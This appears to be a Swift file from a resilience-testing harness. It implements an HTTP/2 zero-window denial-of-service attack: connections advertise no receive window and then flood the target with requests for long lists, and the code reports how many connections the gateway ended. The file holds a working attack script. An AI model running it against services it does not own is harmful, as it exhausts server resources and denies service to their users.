import Support

/// Asks for long lists on HTTP/2 connections that take not a byte of an answer.
struct ZeroWindows: Attack {
    let name = "zero windows"

    private static let connections = 40
    private static let connectsPerSecond = 10
    private static let requestsPerSecond = 100
    private static let streams = 40

    func setUp(_ target: Target) async throws { try await HeavyInstances.register(target) }

    func run(_ target: Target, until end: ContinuousClock.Instant) async throws -> String {
        let raid = try Raid(target)
        var open: [RaidConnection] = []
        var connects = Pace(perSecond: Self.connectsPerSecond)
        var requests = Pace(perSecond: Self.requestsPerSecond)
        while .now < end {
            open.removeAll { !$0.isOpen }
            for _ in 0..<connects.due() where open.count < Self.connections {
                let opening = HTTP2Frames.preface(windowBytes: 0)
                if let connection = await raid.connect(sending: opening) {
                    open.append(connection)
                }
            }
            for _ in 0..<requests.due() {
                guard let connection = open.randomElement() else { continue }
                guard await connection.streams() < Self.streams else { continue }
                connection.request(1) { HTTP2Frames.request(HeavyInstances.list, stream: $0) }
            }
            try await Task.sleep(for: .milliseconds(20))
        }
        let tally = raid.sofar
        await raid.end()
        guard tally.requests > 0 else { throw TestFault(description: "nothing could be asked") }
        return
            "\(tally.requests) requests for long lists on \(tally.connections) connections of a service, "
            + "\(tally.answers) answered, \(tally.connectionsEnded) connections ended by the gateway"
    }
}
